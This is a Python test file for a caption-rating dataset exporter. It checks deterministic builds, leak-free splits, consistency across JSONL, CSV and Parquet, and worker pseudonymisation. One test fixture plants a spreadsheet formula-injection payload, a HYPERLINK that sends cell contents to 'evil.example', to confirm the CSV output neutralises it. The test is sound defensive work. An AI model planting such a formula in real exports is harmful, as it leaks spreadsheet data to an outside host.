"""The split files of a release (export.release_files): determinism, leak-free splits, one canonical
record in three formats."""

from __future__ import annotations

import hashlib
import hmac
import json
import re

from annotation.models import (
    Campaign,
    CampaignCandidate,
    CandidateCalibration,
    Judgment,
    ReviewState,
)
from common.spreadsheet import spreadsheet_safe
from datasets_app.models import CandidateCaption, ReferenceCaption
from export.records import canonical_line
from tests.export.builders import build_campaign
from tests.export.helpers import (
    all_bytes,
    build,
    csv_rows,
    eligible,
    jsonl_lines,
    jsonl_records,
    parquet_rows,
    read_file,
)

FILES_TWO_SPLITS = {
    "README.md",
    "manifest.json",
    "data/train.jsonl",
    "data/validation.jsonl",
    "csv/train.csv",
    "csv/validation.csv",
    "parquet/train.parquet",
    "parquet/validation.parquet",
}


def test_two_builds_of_the_same_state_and_seed_are_byte_identical(db):
    data = build_campaign(slug="twins", clips=20, workers=8)
    first = build(campaigns=[data.campaign], seed=11, include_raw_judgments=True)
    second = build(campaigns=[data.campaign], seed=11, include_raw_judgments=True)

    assert first.pk != second.pk
    # With raw judgments, the workers' reasons also come as the explanation set.
    assert set(first.files) == FILES_TWO_SPLITS | {"explanations.jsonl"}
    assert first.files == second.files
    first_bytes, second_bytes = all_bytes(first), all_bytes(second)
    assert first_bytes == second_bytes
    for relative, content in first_bytes.items():
        assert hashlib.sha256(content).hexdigest() == first.files[relative]
    # Build times and ids live in the database only.
    assert first.finished_at != second.finished_at
    manifest_text = first_bytes["manifest.json"].decode()
    assert not re.search(r"\d{4}-\d{2}-\d{2}T\d{2}:", manifest_text)
    assert '"release"' not in manifest_text


def test_a_different_seed_changes_the_split_but_never_puts_a_clip_in_two_splits(db):
    data = build_campaign(slug="seeds", clips=60, workers=10)
    expected_clips = {item.candidate.clip.vatex_id for item in eligible(data.campaign)}
    validation_by_seed = {}
    for seed in (1, 2):
        release = build(campaigns=[data.campaign], seed=seed)
        train = {record["clip_id"] for record in jsonl_records(release, "train")}
        validation = {record["clip_id"] for record in jsonl_records(release, "validation")}
        assert train.isdisjoint(validation)
        assert train | validation == expected_clips
        candidates = len(jsonl_records(release, "train")) + len(
            jsonl_records(release, "validation")
        )
        assert candidates == len(eligible(data.campaign))
        assert 0.1 <= len(jsonl_records(release, "validation")) / candidates <= 0.3
        validation_by_seed[seed] = validation
    assert validation_by_seed[1] != validation_by_seed[2]


def _csv_expected(record: dict) -> dict[str, str]:  # type: ignore[type-arg]
    expected = {}
    for key, value in record.items():
        if key in ("scores", "calibrated_scores"):
            for question, mean in value.items():
                expected[f"{key}.{question}"] = "" if mean is None else repr(mean)
        elif value is None:
            expected[key] = ""
        elif key in ("references", "raw_judgments", "opened_by"):
            expected[key] = spreadsheet_safe(
                json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
            )
        elif isinstance(value, float | int):
            expected[key] = repr(value)
        else:
            expected[key] = spreadsheet_safe(str(value))
    return expected


def calibrate_leaving_one_out(campaign: Campaign) -> None:
    """Calibrated scores for every rated candidate but one (whose calibrated fields are null)."""
    from io import StringIO

    from django.core.management import call_command

    call_command("calibrate", campaign.slug, "--json", stdout=StringIO(), stderr=StringIO())
    CandidateCalibration.objects.filter(
        pk=CandidateCalibration.objects.filter(campaign=campaign).order_by("pk").first().pk
    ).delete()


def test_every_record_is_canonical_normalised_and_the_same_in_all_three_formats(db):
    data = build_campaign(slug="formats", clips=30, workers=8)
    tricky = CandidateCaption.objects.filter(clip=data.clips[3]).first()
    tricky.text = 'He said "hi", then —\nleft the café 😀 \\ tab\there \x1f\u2028end'
    tricky.save()
    ReferenceCaption.objects.filter(clip=data.clips[3]).update(text='a, "quoted" reference')
    # Text a spreadsheet would run as a formula: neutralised in the CSV only (common.spreadsheet).
    formula = CandidateCaption.objects.filter(clip=data.clips[4]).first()
    formula.text = '=HYPERLINK("https://evil.example/?"&A1,"open me")'
    formula.save()
    CandidateCaption.objects.filter(clip=data.clips[5]).update(text="-2+3 people dance")
    calibrate_leaving_one_out(data.campaign)
    release = build(
        campaigns=[data.campaign], seed=5, ratios=(0.8, 0.1, 0.1), include_raw_judgments=True
    )

    total = 0
    seen_tricky = False
    formula_seen_in: list[str] = []  # the JSONL and Parquet text is exact (asserted per record)
    csv_texts: list[str] = []
    for split in ("train", "validation", "test"):
        lines = jsonl_lines(release, split)
        records = [json.loads(line) for line in lines]
        assert records, f"{split} is empty"
        total += len(records)
        for line, record in zip(lines, records, strict=True):
            assert canonical_line(record) == line
            assert record["normalized"] == (record["overall"] - 1) / 4
            assert 0.0 <= record["normalized"] <= 1.0
            assert len(record["raw_judgments"]) == record["judgments"]
            seen_tricky = seen_tricky or record["text"] == tricky.text
            formula_seen_in.extend([split] if record["text"] == formula.text else [])
        assert parquet_rows(release, split) == records
        assert csv_rows(release, split) == [_csv_expected(record) for record in records]
        csv_texts.append(read_file(release, f"csv/{split}.csv").decode())
        order = [(r["clip_id"], r["candidate_id"], r["campaign"]) for r in records]
        assert order == sorted(order, key=lambda key: tuple(part.encode() for part in key))
    assert seen_tricky
    assert len(formula_seen_in) == 1
    assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""open me"")"' in "".join(csv_texts)
    assert '"\'-2+3 people dance"' in "".join(csv_texts)
    card = read_file(release, "README.md").decode()
    assert "The JSONL and the Parquet files hold every text exactly as stored." in card
    assert "so `=2+2` is written `'=2+2`; numbers\nare written unchanged." in card
    assert total == len(eligible(data.campaign))


def fixed_stop_reason(item: CampaignCandidate, kept: list[Judgment]) -> str:
    """Why a candidate of a fixed campaign stopped, from its kept judgments: "" below its quota,
    "review" when a question's ratings span the campaign's review range, else "maximum"."""
    if len(kept) < item.quota:
        return ""
    widest = max(
        max(judgment.values[key] for judgment in kept)
        - min(judgment.values[key] for judgment in kept)
        for key in item.means
    )
    return "review" if widest >= item.campaign.review_range_threshold else "maximum"


def test_records_carry_the_database_values(db):
    data = build_campaign(slug="values", clips=16, workers=9, excluded_worker=False)
    calibrate_leaving_one_out(data.campaign)
    calibrations = {
        row.campaign_candidate_id: row
        for row in CandidateCalibration.objects.filter(campaign=data.campaign)
    }
    null_seen = False
    release = build(campaigns=[data.campaign], seed=3, include_raw_judgments=True)
    records = {
        record["candidate_id"]: record
        for split in ("train", "validation")
        for record in jsonl_records(release, split)
    }
    resolved_seen = False
    reasons_seen: set[str] = set()
    for item in eligible(data.campaign):
        candidate = item.candidate
        clip = candidate.clip
        record = records.pop(candidate.external_id)
        kept = list(
            Judgment.objects.filter(campaign_candidate=item, is_excluded=False).order_by("pk")
        )
        calibration = calibrations.get(item.pk)
        null_seen = null_seen or calibration is None
        assert record == {
            "calibrated_overall": calibration.overall if calibration else None,
            "calibrated_scores": {
                key: calibration.scores.get(key) if calibration else None
                for key in sorted(item.means)
            },
            "campaign": "values",
            "candidate_id": candidate.external_id,
            "clip_id": clip.vatex_id,
            "duration": clip.duration
            if clip.duration is not None
            else clip.end_seconds - clip.start_seconds,
            "end": clip.end_seconds,
            "frames_key": clip.frames_key,
            "image_key": "",
            "judgments": item.kept_judgments,
            "modality": "video",
            "normalized": (item.overall - 1) / 4,
            "overall": item.overall,
            "raw_judgments": [
                {
                    "reason": judgment.reason,
                    "values": judgment.values,
                    "worker": record["raw_judgments"][position]["worker"],
                }
                for position, judgment in enumerate(kept)
            ],
            "references": list(
                ReferenceCaption.objects.filter(clip=clip)
                .order_by("position")
                .values_list("text", flat=True)
            ),
            "review_status": "resolved" if item.review_state == ReviewState.RESOLVED else "none",
            "scores": {key: item.means[key] for key in sorted(item.means)},
            "start": clip.start_seconds,
            "stop_reason": fixed_stop_reason(item, kept),
            "system": candidate.system.name,
            "system_version": candidate.system.version,
            "text": candidate.text,
            "training_class": item.training_class,
            "video_key": clip.video_key,
        }
        resolved_seen = resolved_seen or record["review_status"] == "resolved"
        reasons_seen.add(record["stop_reason"])
    assert records == {}
    assert resolved_seen
    assert reasons_seen == {"maximum", "review"}
    # A fixed campaign opens nothing beyond its N: no `opened_by` column, none in the card.
    assert "opened_by" not in read_file(release, "README.md").decode()
    assert (
        "| `values` | fixed | 3 judgments per candidate;"
        in read_file(release, "README.md").decode()
    )
    assert null_seen or len(calibrations) == len(eligible(data.campaign))


def test_left_out_candidates_are_not_in_the_files_and_are_counted(db):
    data = build_campaign(slug="leftout", clips=24, workers=6)
    release = build(campaigns=[data.campaign], seed=9)
    released = {
        record["candidate_id"]
        for split in ("train", "validation")
        for record in jsonl_records(release, split)
    }
    items = list(
        CampaignCandidate.objects.filter(campaign=data.campaign).select_related("candidate")
    )
    controls = [item for item in items if item.is_control]
    dropped = [item for item in items if not item.is_control and item.dropped]
    review = [
        item
        for item in items
        if not item.is_control and not item.dropped and item.review_state == ReviewState.OPEN
    ]
    below_quota = [
        item
        for item in items
        if not item.is_control
        and not item.dropped
        and item.review_state != ReviewState.OPEN
        and not item.is_finalised
        and item.kept_judgments < item.quota
    ]
    assert controls and dropped and review and below_quota
    for item in controls + dropped + review + below_quota:
        assert item.candidate.external_id not in released
    assert release.counts["excluded"] == {
        "control": len(controls),
        "dropped": len(dropped),
        "under_review": len(review),
        "below_quota": len(below_quota),
        "not_finalised": 0,
        "no_valid_score": 0,
    }
    assert release.counts["released"] == len(released) == len(eligible(data.campaign))
    assert release.counts["candidates_in_campaigns"] == len(items)


def test_raw_judgments_carry_stable_pseudonyms_and_no_worker_ids(db, settings):
    settings.LEPUS_RELEASE_PSEUDONYM_SECRET = "a-test-pseudonym-key"
    data = build_campaign(slug="pseudo", clips=12, workers=7)
    release = build(campaigns=[data.campaign], seed=2, include_raw_judgments=True)
    everything = b"".join(all_bytes(release).values())
    assert b"pseudo-worker-" not in everything
    expected = {
        worker.pk: "w_"
        + hmac.new(
            b"a-test-pseudonym-key", f"prolific:{worker.external_id}".encode(), hashlib.sha256
        ).hexdigest()[:16]
        for worker in data.workers
    }
    by_judgment_order = []
    for split in ("train", "validation"):
        for record in jsonl_records(release, split):
            item = CampaignCandidate.objects.get(
                campaign=data.campaign, candidate__external_id=record["candidate_id"]
            )
            kept = Judgment.objects.filter(campaign_candidate=item, is_excluded=False).order_by(
                "pk"
            )
            by_judgment_order.extend(
                (raw["worker"], expected[judgment.participation.worker_id])
                for raw, judgment in zip(record["raw_judgments"], kept, strict=True)
            )
    assert by_judgment_order and all(actual == wanted for actual, wanted in by_judgment_order)
    excluded = data.participations[-1].worker_id
    assert expected[excluded] not in {actual for actual, _ in by_judgment_order}
    manifest_workers = json.loads(read_file(release, "manifest.json"))["quality_control"][
        "excluded_workers"
    ]
    assert [entry["worker"] for entry in manifest_workers] == [expected[excluded]]


def test_the_database_batch_size_never_changes_the_files(db, settings, monkeypatch):
    import pyarrow.parquet as pq

    from export import release_files

    # Small Parquet blocks and row groups so this small release spans several of them.
    monkeypatch.setattr(release_files, "PARQUET_PARSE_LINES", 4)
    monkeypatch.setattr(release_files, "PARQUET_ROW_GROUP_ROWS", 8)
    data = build_campaign(slug="batches", clips=25, workers=8)
    settings.LEPUS_RELEASE_BATCH_SIZE = 3
    small = build(campaigns=[data.campaign], seed=2)
    settings.LEPUS_RELEASE_BATCH_SIZE = 1000
    large = build(campaigns=[data.campaign], seed=2)
    assert all_bytes(small) == all_bytes(large)
    metadata = pq.ParquetFile(
        f"{settings.MEDIA_ROOT}/{small.storage_prefix}/parquet/train.parquet"
    ).metadata
    rows = small.counts["splits"]["train"]["candidates"]
    assert metadata.num_row_groups == -(-rows // 8) > 2
    assert [metadata.row_group(index).num_rows for index in range(metadata.num_row_groups - 1)] == [
        8
    ] * (metadata.num_row_groups - 1)
